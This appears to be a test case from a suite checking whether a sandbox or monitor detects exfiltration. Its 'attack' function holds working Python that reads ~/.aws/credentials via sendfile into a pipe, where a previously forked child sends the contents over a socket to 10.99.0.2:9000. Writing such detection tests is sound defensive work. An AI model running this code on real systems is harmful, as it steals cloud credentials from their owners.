# SPDX-License-Identifier: Apache-2.0
TITLE="sendfile from the secret into a pipe, read by a sender that was forked before"
ROW="R05 I01"
NEEDS=python3
attack() {
	python3 - <<-'END'
	import os, socket, time
	reads, writes = os.pipe()
	if os.fork() == 0:
	    data = os.read(reads, 4096)
	    socket.create_connection(('10.99.0.2', 9000), 5).sendall(data)
	    os._exit(0)
	time.sleep(0.3)
	secret = os.open(os.path.expanduser('~/.aws/credentials'), os.O_RDONLY)
	os.sendfile(writes, secret, 0, 4096)
	os.wait()
	END
}
